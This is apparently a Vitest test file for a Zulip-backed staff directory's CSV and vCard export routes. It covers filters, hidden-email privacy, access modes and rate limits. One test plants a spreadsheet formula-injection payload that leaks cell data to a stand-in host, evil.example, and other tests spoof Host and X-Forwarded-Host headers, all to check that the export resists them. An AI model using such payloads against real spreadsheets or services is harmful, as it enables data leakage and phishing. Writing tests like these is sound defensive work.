// The export routes against the demo Zulip server over HTTP (docs/architecture.md §13): /export/people.csv
// and /export/people.vcf follow the directory's own query (the same parser as the page and
// /api/people), refuse bad input with a 400 and anonymous viewers in the closed modes, and carry
// only what the page shows: a real address Zulip hides from members is in no file.
import { createHash } from 'node:crypto';
import { NextRequest } from 'next/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DemoUser } from '@/lib/demo-zulip/types';
import type { PeoplePage, Person } from '@/lib/directory/domain/types';
import { proxy } from '@/proxy';
import { reportPresence } from '../integration/support';
import { startTestDirectory, until, withEnv, type TestDirectory } from '../support/directory';
import { csvObjects, parseVCards, unescapeText } from './readers';
import { FakeClock } from '../support/fake-clock';
import { theApp } from '@/lib/server/app-handle';

const ORIGIN = 'http://directory.test';
const SECRET = 'test-secret-test-secret-test-secret-42';
const OPEN = { DIRECTORY_ACCESS: 'open' };
const COLUMNS = ['Name', 'Title', 'Department', 'Office', 'Managers', 'Email', 'Pronouns', 'Time zone', 'Presence', 'Profile URL'];
type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;

/** Calls the route handler for an address, as Next would (for HEAD too: Next runs GET's handler). */
async function get(path: string, headers: Record<string, string> = {}, signal?: AbortSignal, method = 'GET'): Promise<Response> {
  const url = new URL(path, ORIGIN);
  const person = /^\/people\/([^/]+)\/vcard$/.exec(url.pathname);
  const mod = (await (url.pathname === '/export/people.csv'
    ? import('@/app/export/people.csv/route')
    : url.pathname === '/export/people.vcf'
      ? import('@/app/export/people.vcf/route')
      : import('@/app/people/[ref]/vcard/route'))) as unknown as { GET: Handler };
  const params: Record<string, string> = person ? { ref: decodeURIComponent(person[1]!) } : {};
  return mod.GET(new NextRequest(url, { headers, signal, method }), { params: Promise.resolve(params) });
}

async function people(search: string): Promise<PeoplePage> {
  const { GET } = (await import('@/app/api/people/route')) as unknown as { GET: Handler };
  const res = await GET(new NextRequest(new URL(`/api/people${search}${search ? '&' : '?'}limit=200`, ORIGIN)), { params: Promise.resolve({}) });
  expect(res.status).toBe(200);
  return (await res.json()) as PeoplePage;
}

async function csv(search: string, headers: Record<string, string> = {}) {
  const res = await get(`/export/people.csv${search}`, headers);
  expect(res.status, await res.clone().text()).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return { res, bytes, text, rows: csvObjects(text.slice(1)) };
}

async function vcf(path: string, headers?: Record<string, string>) {
  const res = await get(path, headers);
  expect(res.status, await res.clone().text()).toBe(200);
  const text = await res.text();
  return { res, text, cards: parseVCards(text) };
}

const idOf = (profileUrl: string) => Number(/\/people\/(\d+)$/.exec(profileUrl)?.[1]);
const today = () => new Date().toISOString().slice(0, 10);

let dir: TestDirectory;
let hidden: DemoUser[];
let shown: DemoUser;
let fields: { title: number; pronouns: number };

/** A new person with this address setting, once the directory lists them. */
async function newPerson(fullName: string, visibility: string): Promise<DemoUser> {
  const made = (await dir.control('POST', '/demo/users', { full_name: fullName, email_visibility: visibility })) as { user: { user_id: number } };
  await until(() => dir.runtime.view.people.get(made.user.user_id) !== undefined, `${fullName} listed`);
  return dir.demo.org.users.find((u) => u.user_id === made.user.user_id)!;
}

beforeAll(async () => {
  // Zulip 10.x with an administrator bot: it reads nearly every real address, and the directory
  // must still show only those Zulip shows members (docs/zulip.md §f).
  dir = await startTestDirectory({ demo: { featureLevel: 372, botRole: 200, users: 60, seed: 12 } });
  const roles = dir.runtime.view.people.fieldRoles();
  fields = { title: roles.title!, pronouns: roles.pronouns! };
  hidden = [await newPerson('Hidden Admins-Only', 'admins'), await newPerson('Hidden Nobody', 'nobody'), await newPerson('Hidden Members', 'members')];
  shown = await newPerson('Shown Everyone', 'everyone');
}, 30_000);

afterAll(() => dir?.close());

describe('/export/people.csv', () => {
  it('is a UTF-8 CSV with a byte-order mark, the columns asked for, and a file name that says what is in it', async () => {
    await withEnv(OPEN, async () => {
      const { res, bytes, text } = await csv('');
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(res.headers.get('cache-control')).toBe('no-store');
      const org = dir.runtime.view.org.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${org}-directory-${today()}.csv"`);
      expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.map((c) => `"${c}"`).join(','));
    });
  });

  it("names the file with the day of the app's clock", async () => {
    await withEnv(OPEN, async () => {
      const { res } = await csv('');
      expect(res.headers.get('content-disposition')).toMatch(/-directory-2031-05-06\.csv"$/);
    }, { clock: new FakeClock(Date.UTC(2031, 4, 6, 12)) });
  });

  it('has everyone the view matches, in its order, whatever page the address was on', async () => {
    await withEnv(OPEN, async () => {
      for (const search of ['', '?sort=name', '?sort=name&offset=50&limit=10']) {
        const { rows } = await csv(search);
        const expected = (await people(search.replace(/&?(offset|limit)=\d+/g, ''))).items;
        expect(rows.map((r) => idOf(r['Profile URL']!))).toEqual(expected.map((p) => p.id));
        expect(rows.map((r) => r.Name)).toEqual(expected.map((p) => p.name));
      }
    });
  });

  it('respects the filters and the search, and names them in the file', async () => {
    await withEnv(OPEN, async () => {
      const department = (await people('')).facets.departments[0]!;
      const office = (await people('')).facets.offices[0]!;
      for (const params of [{ department }, { office }, { q: 'Shown' }, { department, status: 'any', sort: 'name' }] as Array<Record<string, string>>) {
        const search = `?${new URLSearchParams(params)}`;
        const { res, rows } = await csv(search);
        const expected = await people(search);
        expect(expected.total).toBeGreaterThan(0);
        expect(rows.map((r) => idOf(r['Profile URL']!)), search).toEqual(expected.items.map((p) => p.id));
        if (params.department) expect(rows.every((r) => r.Department === department)).toBe(true);
        if (params.office) expect(rows.every((r) => r.Office === office)).toBe(true);
        const named = (params.department ?? params.office ?? params.q)!.toLowerCase().normalize('NFKD').replace(/\p{M}/gu, '').replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-|-$/g, '');
        expect(res.headers.get('content-disposition')).toContain(`-directory-${named}-${today()}.csv`);
      }
    });
  });

  it('respects the team filter (Zulip user groups) through the same query, naming the team in the file', async () => {
    await withEnv(OPEN, async () => {
      const { teams } = (await people('')).facets;
      expect(teams.length).toBeGreaterThan(0);
      let checked = 0;
      for (const team of teams.slice(0, 4)) {
        const search = `?${new URLSearchParams({ team: String(team.id), sort: 'name' })}`;
        const expected = await people(search);
        const { res, rows } = await csv(search);
        expect(rows.map((r) => idOf(r['Profile URL']!)), team.name).toEqual(expected.items.map((p) => p.id));
        expect(res.headers.get('content-disposition')).toContain(`-directory-${team.name.toLowerCase().normalize('NFKD').replace(/\p{M}/gu, '').replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-|-$/g, '')}-${today()}.csv`);
        checked += expected.total > 0 && expected.total < dir.runtime.view.people.list().length ? 1 : 0;
      }
      expect(checked).toBeGreaterThan(0);
    });
  });

  it('says who is active now, and the presence filter keeps only them', async () => {
    await withEnv(OPEN, async () => {
      await reportPresence(dir.demo, shown, 'active');
      await until(() => dir.runtime.view.presence.get(shown.user_id)?.state === 'active', 'the presence refresh');
      const { rows } = await csv('?status=active');
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.every((r) => r.Presence === 'active')).toBe(true);
      expect(rows.map((r) => r.Name)).toContain('Shown Everyone');
      for (const row of (await csv('')).rows) expect(['active', 'idle', 'offline']).toContain(row.Presence);
    });
  });

  it('writes each person as the directory holds them: managers by name, the shown email, pronouns, zone, profile address', async () => {
    await withEnv(OPEN, async () => {
      const { rows } = await csv('?sort=name');
      const byId = new Map(rows.map((r) => [idOf(r['Profile URL']!), r]));
      let withManager = 0;
      for (const person of dir.runtime.view.people.list()) {
        const row = byId.get(person.id)!;
        const managers = person.managerIds.map((id) => dir.runtime.view.people.get(id)?.name).filter(Boolean);
        withManager += managers.length > 0 ? 1 : 0;
        expect(row, person.name).toMatchObject({
          Title: person.title ?? '',
          Department: person.department ?? '',
          Office: person.office ?? '',
          Managers: managers.join('; '),
          Email: person.email ?? '',
          Pronouns: person.pronouns ?? '',
          'Time zone': person.timezone,
          'Profile URL': `${ORIGIN}/people/${person.id}`,
        });
      }
      expect(withManager).toBeGreaterThan(10);
    });
  });

  it('names a manager who has left, marked, as the profile does, rather than leaving the cell empty', async () => {
    await withEnv(OPEN, async () => {
      const report = dir.runtime.view.people.list().find((p) => p.managerIds.length === 1 && dir.runtime.view.people.get(p.managerIds[0]!))!;
      const manager = dir.runtime.view.people.get(report.managerIds[0]!)!;
      await dir.control('PATCH', `/demo/users/${manager.id}`, { is_active: false });
      try {
        await until(() => dir.runtime.view.people.get(manager.id) === undefined, 'the deactivation');
        const row = (await csv('?sort=name')).rows.find((r) => idOf(r['Profile URL']!) === report.id)!;
        expect(row.Managers).toBe(`${manager.name} (left)`);
      } finally {
        await dir.control('PATCH', `/demo/users/${manager.id}`, { is_active: true });
        await until(() => dir.runtime.view.people.get(manager.id) !== undefined, 'the reactivation');
      }
    });
  });

  it('names the managers the profile names: not the person themself, nor one listed twice (docs/architecture.md §14)', async () => {
    await withEnv(OPEN, async () => {
      const report = dir.runtime.view.people.list().find((p) => p.managerIds.length === 1 && dir.runtime.view.people.get(p.managerIds[0]!))!;
      const manager = dir.runtime.view.people.get(report.managerIds[0]!)!;
      const managerField = String(dir.runtime.view.people.fieldRoles().manager);
      await dir.control('PATCH', `/demo/users/${report.id}`, { profile_data: { [managerField]: JSON.stringify([report.id, manager.id, manager.id]) } });
      try {
        // Read as [themself, manager]: the person picker's reader names each person once.
        await until(() => dir.runtime.view.people.get(report.id)?.managerIds.length === 2, 'the manager field');
        const row = (await csv('?sort=name')).rows.find((r) => idOf(r['Profile URL']!) === report.id)!;
        expect(row.Managers).toBe(manager.name);
      } finally {
        await dir.control('PATCH', `/demo/users/${report.id}`, { profile_data: { [managerField]: JSON.stringify([manager.id]) } });
        await until(() => dir.runtime.view.people.get(report.id)?.managerIds.length === 1, 'the manager field back');
      }
    });
  });

  it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
    await withEnv(OPEN, async () => {
      const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.pronouns]: 'they;-2+3' } });
      try {
        await until(() => dir.runtime.view.people.get(shown.user_id)?.title === formula, 'the profile update');
        const { rows, text } = await csv('?q=SUM');
        expect(rows).toHaveLength(1);
        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Pronouns: "they;'-2+3" });
        // Split on any separator a spreadsheet may use (docs/architecture.md §15), no piece of any cell starts a formula.
        for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece).not.toMatch(/^ *[=+\-@]/);
        // Every cell is quoted: each record is "…","…",…
        for (const line of text.slice(1).split('\r\n').filter(Boolean)) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
      } finally {
        await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.pronouns]: null } });
        await until(() => dir.runtime.view.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
      }
    });
  });

  it('points profile addresses at DIRECTORY_PUBLIC_URL when it is set, else at the host the viewer opened', async () => {
    const firstUrl = async (headers: Record<string, string>) => (await csv('?sort=name', headers)).rows[0]!['Profile URL']!;
    await withEnv({ ...OPEN, DIRECTORY_PUBLIC_URL: 'https://directory.example.com' }, async () => {
      const { rows } = await csv('?sort=name', { host: 'internal:3000' });
      expect(rows.every((r) => r['Profile URL']!.startsWith('https://directory.example.com/people/'))).toBe(true);
    });
    await withEnv(OPEN, async () => {
      expect(await firstUrl({ host: 'people.example.org:8080' })).toMatch(/^http:\/\/people\.example\.org:8080\/people\/\d+$/);
      // X-Forwarded-Host is what any client may write: not followed unless proxies are trusted (below).
      expect(await firstUrl({ host: 'people.example.org', 'x-forwarded-host': 'evil.example' })).toMatch(/^http:\/\/people\.example\.org\/people\/\d+$/);
      // A host that is not only a host is not an origin: the request's own address is used.
      expect(await firstUrl({ host: 'evil.example/phish?' })).toMatch(/^http:\/\/directory\.test\/people\/\d+$/);
      expect(await firstUrl({ host: 'example.org:80' })).toMatch(/^http:\/\/example\.org\/people\/\d+$/);
      expect(await firstUrl({ host: 'user@evil.example' })).toMatch(/^http:\/\/directory\.test\/people\/\d+$/);
    });
    await withEnv({ ...OPEN, DIRECTORY_TRUSTED_PROXY_HOPS: '1' }, async () => {
      // A proxy of ours is in front: the value it set (the last) is the host the viewer opened.
      const forwarded = { host: '127.0.0.1:3000', 'x-forwarded-host': 'evil.example, dir.example.org', 'x-forwarded-proto': 'https' };
      expect(await firstUrl(forwarded)).toMatch(/^https:\/\/dir\.example\.org\/people\/\d+$/);
    });
  });

  it('builds every absolute address of the vCard routes the same way, never from a client’s X-Forwarded-Host', async () => {
    await withEnv(OPEN, async () => {
      const headers = { host: 'people.example.org', 'x-forwarded-host': 'evil.example' };
      for (const path of ['/export/people.vcf?sort=name', `/people/${shown.user_id}/vcard`]) {
        const text = await (await get(path, headers)).text();
        expect(text, path).toContain(`URL:http://people.example.org/people/`);
        expect(text, path).not.toContain('evil.example');
      }
    });
  });

  it('gives a person the same UID from any address the directory is opened at (their Zulip account), so importing again updates one contact', async () => {
    await withEnv(OPEN, async () => {
      const uidFrom = async (host: string) => {
        const card = (await vcf(`/people/${shown.user_id}/vcard`, { host })).cards[0]!;
        return card.get('UID')![0]!;
      };
      const [one, other] = [await uidFrom('localhost:3000'), await uidFrom('people.example.org')];
      expect(one).toBe(other);
      expect(one).toBe(`${dir.runtime.view.org.realmUrl}/#user/${shown.user_id}`);
    });
  });
});

describe('/export/people.vcf', () => {
  it('is one vCard 4.0 per person the view matches, in its order', async () => {
    await withEnv(OPEN, async () => {
      const department = (await people('')).facets.departments[1]!;
      const search = `?${new URLSearchParams({ department, sort: 'name' })}`;
      const { res, cards, text } = await vcf(`/export/people.vcf${search}`);
      expect(res.headers.get('content-type')).toBe('text/vcard; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(new RegExp(`-directory-[^"]+-${today()}\\.vcf"`));
      const expected = (await people(search)).items;
      expect(cards.map((c) => idOf(c.get('URL')![0]!))).toEqual(expected.map((p) => p.id));
      expect(cards.every((c) => c.get('VERSION')![0] === '4.0')).toBe(true);
      expect(cards.map((c) => unescapeText(c.get('FN')![0]!))).toEqual(expected.map((p) => p.name));
      expect(cards.every((c) => unescapeText(c.get('ORG')![0]!.split(/(?<!\\);/)[1]!) === department)).toBe(true);
      for (const line of text.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    });
  });
});

describe('/people/{ref}/vcard', () => {
  it('is the person’s card: name, title, organization and department, shown email, zone, photo, profile address, pronouns', async () => {
    await withEnv(OPEN, async () => {
      const person = dir.runtime.view.people.list().find((p) => p.title && p.department && p.pronouns && p.email && p.timezone) as Person;
      expect(person).toBeDefined();
      const { res, cards } = await vcf(`/people/${person.id}/vcard`);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.vcf"/);
      expect(cards).toHaveLength(1);
      const card = cards[0]!;
      const one = (name: string) => unescapeText(card.get(name)![0]!);
      expect(one('FN')).toBe(person.name);
      expect(one('TITLE')).toBe(person.title);
      expect(card.get('ORG')![0]).toBe(`${dir.runtime.view.org.name.replace(/[\\,;]/g, '\\$&')};${person.department!.replace(/[\\,;]/g, '\\$&')}`);
      expect(one('EMAIL')).toBe(person.email);
      expect(one('TZ')).toBe(person.timezone);
      expect(card.get('PHOTO')![0]).toBe(person.avatarUrl);
      expect(card.get('URL')![0]).toBe(`${ORIGIN}/people/${person.id}`);
      expect(one('NOTE')).toBe(`Pronouns: ${person.pronouns}`);
    });
  });

  it('finds people by id or shown email, 404s the unknown and hidden addresses, 400s bad references and parameters', async () => {
    await withEnv(OPEN, async () => {
      expect((await get(`/people/${encodeURIComponent(shown.delivery_email)}/vcard`)).status).toBe(200);
      expect((await get('/people/99999999/vcard')).status).toBe(404);
      for (const user of hidden) expect((await get(`/people/${encodeURIComponent(user.delivery_email)}/vcard`)).status).toBe(404);
      const bad = await get('/people/%E2%80%AE12/vcard');
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('invalid_ref');
      const withQuery = await get(`/people/${shown.user_id}/vcard?format=v3`);
      expect(withQuery.status).toBe(400);
      expect(((await withQuery.json()) as { error: { message: string } }).error.message).toContain('"format"');
    });
  });
});

describe('what no export carries', () => {
  it('has no real address Zulip hides from members, in any file, and has the one it shows', async () => {
    await withEnv(OPEN, async () => {
      const views = [(await csv('?sort=name')).text, (await vcf('/export/people.vcf')).text];
      for (const text of views) expect(text).toContain(shown.delivery_email);
      const cards = await Promise.all(hidden.map(async (user) => (await vcf(`/people/${user.user_id}/vcard`)).text));
      for (const text of [...views, ...cards]) {
        for (const user of hidden) {
          expect(text.toLowerCase()).not.toContain(user.delivery_email.toLowerCase());
          // Nor the API email standing in for it (user{id}@…): it is no one's address.
          expect(text).not.toContain(`user${user.user_id}@`);
        }
      }
      for (const user of hidden) expect((await vcf(`/people/${user.user_id}/vcard`)).cards[0]!.has('EMAIL')).toBe(false);
      // Every listed person's hidden address, not only those made here.
      const { text } = await csv('?sort=name');
      for (const person of dir.runtime.view.people.list()) {
        const user = dir.demo.org.users.find((u) => u.user_id === person.id)!;
        if (person.email === null) expect(text.toLowerCase()).not.toContain(user.delivery_email.toLowerCase());
      }
    });
  });

  it('has no Gravatar URL made from a hidden address, in the API, the files or the cards (the page shows initials)', async () => {
    await withEnv(OPEN, async () => {
      const md5 = (email: string) => createHash('md5').update(email.toLowerCase()).digest('hex');
      // Zulip sends everyone's Gravatar URL, the hidden ones' too (the bot reads it: docs/zulip.md §f).
      const shownPerson = dir.runtime.view.people.get(shown.user_id)!;
      expect(shownPerson.avatarUrl).toContain(`https://secure.gravatar.com/avatar/${md5(shown.delivery_email)}`);
      const listed = (await people('?q=Hidden')).items;
      expect(listed.map((p) => p.id).sort()).toEqual(hidden.map((u) => u.user_id).sort());
      const texts = [JSON.stringify(listed), (await vcf('/export/people.vcf')).text, (await csv('')).text];
      for (const user of hidden) {
        expect(dir.runtime.view.people.get(user.user_id)!.avatarUrl).toBeNull();
        expect(listed.find((p) => p.id === user.user_id)!.avatarUrl).toBeNull();
        const card = await vcf(`/people/${user.user_id}/vcard`);
        expect(card.cards[0]!.has('PHOTO')).toBe(false);
        for (const text of [...texts, card.text]) expect(text).not.toContain(md5(user.delivery_email));
      }
      expect((await vcf(`/people/${shown.user_id}/vcard`)).cards[0]!.get('PHOTO')![0]).toBe(shownPerson.avatarUrl);
    });
  });

  it('answers a bad query with a 400 naming the problem, as /api/people does', async () => {
    await withEnv(OPEN, async () => {
      for (const path of ['/export/people.csv', '/export/people.vcf']) {
        for (const [search, says] of [
          ['?format=xlsx', 'unknown parameter "format"'],
          ['?status=asleep', '"status" must be one of'],
          ['?q=a&q=b', '"q" is given more than once'],
          ['?q=%00', 'control characters'],
          [`?q=${'x'.repeat(201)}`, 'at most 200'],
          ['?offset=-1', '"offset" must be a whole number from 0 to 1000000'],
        ] as const) {
          const res = await get(`${path}${search}`);
          expect(res.status, `${path}${search}`).toBe(400);
          const body = (await res.json()) as { error: { code: string; message: string } };
          expect(body.error.code).toBe('invalid_query');
          expect(body.error.message).toContain(says);
        }
      }
    });
  });
});

describe('who may export', () => {
  const member = () => dir.runtime.view.people.get(shown.user_id)!;

  for (const [mode, env] of [
    ['zulip', { DIRECTORY_ACCESS: 'zulip', DIRECTORY_SESSION_SECRET: SECRET }],
    ['proxy', { DIRECTORY_ACCESS: 'proxy', DIRECTORY_PROXY_SECRET: SECRET }],
  ] as const) {
    it(`refuses anonymous viewers in the ${mode} mode, at proxy.ts and in the route, with nobody’s data`, async () => {
      await withEnv({ ...OPEN, ...env }, async () => {
        for (const path of ['/export/people.csv?sort=name', '/export/people.vcf', `/people/${shown.user_id}/vcard`]) {
          const edge = await proxy(new NextRequest(new URL(path, ORIGIN)));
          expect(edge.headers.get('x-middleware-next'), path).toBeNull();
          expect(mode === 'zulip' ? [303] : [401], path).toContain(edge.status);
          const res = await get(path);
          expect(res.status, path).toBe(401);
          const body = await res.text();
          expect(JSON.parse(body)).toMatchObject({ error: { code: expect.any(String) } });
          expect(body).not.toContain(member().name);
        }
      });
    });
  }

  it('lets a member in through the proxy, and no one the proxy did not vouch for', async () => {
    await withEnv({ ...OPEN, DIRECTORY_ACCESS: 'proxy', DIRECTORY_PROXY_SECRET: SECRET }, async () => {
      const as = (email: string, secret = SECRET) => ({ 'x-forwarded-email': email, 'x-directory-proxy-secret': secret });
      expect((await csv('', as(shown.delivery_email))).rows.length).toBeGreaterThan(10);
      expect((await get(`/people/${shown.user_id}/vcard`, as(shown.delivery_email))).status).toBe(200);
      expect((await get('/export/people.vcf', as(shown.delivery_email, 'wrong-secret'))).status).toBe(401);
      expect((await get('/export/people.csv', as('stranger@example.com'))).status).toBe(403);
    });
  });
});

describe('how many exports at once, and for how long', () => {
  const refusedWith = async (res: Response, code: string) => {
    expect(res.status).toBe(429);
    expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(await res.json()).toEqual({ error: { code, message: expect.any(String) } });
  };

  it('serves DIRECTORY_EXPORTS_MAX at once in all, and a 429 with Retry-After beyond, until one ends', async () => {
    await withEnv({ ...OPEN, DIRECTORY_EXPORTS_MAX: '2' }, async () => {
      const [a, b] = [await get('/export/people.csv'), await get('/export/people.vcf?sort=name')];
      expect([a.status, b.status]).toEqual([200, 200]);
      expect(theApp().exportSlots.size).toBe(2);
      await refusedWith(await get('/export/people.csv?q=a'), 'server_busy');
      await refusedWith(await get('/export/people.vcf'), 'server_busy');
      // One read to the end, one given up: both slots are free again.
      await a.text();
      await b.body!.cancel();
      expect(theApp().exportSlots.size).toBe(0);
      expect((await csv('?q=a')).rows.length).toBeGreaterThan(0);
    });
  });

  it('serves one viewer DIRECTORY_EXPORTS_PER_VIEWER at once, and others beside them', async () => {
    await withEnv({ ...OPEN, DIRECTORY_ACCESS: 'proxy', DIRECTORY_PROXY_SECRET: SECRET, DIRECTORY_EXPORTS_PER_VIEWER: '1' }, async () => {
      const as = (user: DemoUser) => ({ 'x-forwarded-email': user.delivery_email, 'x-directory-proxy-secret': SECRET });
      const other = hidden[0]!;
      const first = await get('/export/people.vcf', as(shown));
      expect(first.status).toBe(200);
      await refusedWith(await get('/export/people.csv', as(shown)), 'too_many_exports');
      const theirs = await get('/export/people.csv', as(other));
      expect(theirs.status).toBe(200);
      await Promise.all([first.text(), theirs.text()]);
      expect(theApp().exportSlots.size).toBe(0);
    });
  });

  it('answers HEAD with the download\'s headers and takes no slot (nothing would ever read its body)', async () => {
    await withEnv({ ...OPEN, DIRECTORY_EXPORTS_MAX: '1' }, async () => {
      const heads = await Promise.all([1, 2, 3].map(() => get('/export/people.csv?q=a', {}, undefined, 'HEAD')));
      expect(heads.map((res) => res.status)).toEqual([200, 200, 200]);
      expect(heads[0]!.headers.get('content-type')).toMatch(/^text\/csv/);
      const full = await get('/export/people.csv?q=a');
      expect(heads[0]!.headers.get('content-disposition')).toBe(full.headers.get('content-disposition'));
      expect(theApp().exportSlots.size).toBe(1);
      await full.text();
      expect(theApp().exportSlots.size).toBe(0);
    });
  });

  it('frees the slot of a client that hangs up, and ends a download that outlasts DIRECTORY_EXPORT_MAX_SECONDS', async () => {
    await withEnv({ ...OPEN, DIRECTORY_EXPORTS_MAX: '1', DIRECTORY_EXPORT_MAX_SECONDS: '1' }, async () => {
      const leaving = new AbortController();
      expect((await get('/export/people.vcf', {}, leaving.signal)).status).toBe(200);
      expect(theApp().exportSlots.size).toBe(1);
      leaving.abort();
      expect(theApp().exportSlots.size).toBe(0);

      // A client that takes one chunk and never reads again: cut off, and the slot is free.
      const stalled = await get('/export/people.csv?sort=name');
      const reader = stalled.body!.getReader();
      await reader.read();
      await refusedWith(await get('/export/people.csv'), 'server_busy');
      await until(() => theApp().exportSlots.size === 0, 'the slow download ended', 3_000);
      await expect(reader.read()).rejects.toThrow(/longer than the directory allows/);
      expect((await get('/export/people.csv')).status).toBe(200);
    });
  });
});
